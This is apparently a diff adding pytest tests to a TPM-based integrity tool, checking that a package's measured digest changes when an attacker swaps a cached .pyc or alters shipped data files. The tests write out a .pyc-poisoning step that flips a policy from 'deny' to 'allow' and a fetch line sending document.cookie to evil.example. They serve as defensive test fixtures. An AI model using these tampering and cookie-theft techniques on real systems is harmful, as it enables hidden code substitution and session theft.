@@ -101,3 +101,47 @@ def test_replay_refuses_a_line_of_another_pcr_and_a_late_base():
     base = '{"kind":"base","pcr":13,"seq":1,"time":1,"value":"' + "00" * 32 + '","why":"x"}'
     with pytest.raises(EventLogError, match="a base line may only be the first"):
         replay([make_line(0, 13, "policy", "ab" * 32, {}, 1), base], 13)
+
+
+def _package(root):
+    pkg = root / "pkg"
+    pkg.mkdir()
+    (pkg / "__init__.py").write_text("")
+    (pkg / "mod.py").write_text("def decide():\n    return 'deny'\n")
+    (pkg / "page.js").write_text("console.log('ok');\n")
+    return pkg
+
+
+def _run(root):
+    import os
+    import subprocess
+    import sys
+
+    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
+    return subprocess.run([sys.executable, "-c", "import pkg.mod; print(pkg.mod.decide())"], cwd=root, env=env,
+                          capture_output=True, text=True, check=True).stdout.strip()
+
+
+def test_the_package_measurement_covers_the_bytecode_python_runs_and_the_package_data(tmp_path):
+    # An attacker with write access to the package leaves every .py alone and replaces a cached
+    # .pyc (keeping the source's mtime and size in its header): Python runs the .pyc, so the
+    # measured launch must not measure the same digest as before. Data files shipped in the
+    # package (the console's page and script) are skyguard's code as well.
+    import importlib.util
+    import marshal
+
+    from skyguard.tpm.measure import package_digest
+
+    pkg = _package(tmp_path)
+    assert _run(tmp_path) == "deny"  # Python writes pkg/__pycache__/mod.*.pyc
+    before, _ = package_digest(pkg)
+    cached = importlib.util.cache_from_source(str(pkg / "mod.py"))
+    data = open(cached, "rb").read()
+    evil = compile("def decide():\n    return 'allow'\n", str(pkg / "mod.py"), "exec", dont_inherit=True)
+    open(cached, "wb").write(data[:16] + marshal.dumps(evil))  # header of the real source kept
+    assert _run(tmp_path) == "allow"  # what runs changed...
+    assert package_digest(pkg)[0] != before  # ...so what is measured changes
+    open(cached, "wb").write(data)
+    assert package_digest(pkg)[0] == before  # the genuine .pyc is the source's own code
+    (pkg / "page.js").write_text("fetch('https://evil.example/'+document.cookie);\n")
+    assert package_digest(pkg)[0] != before
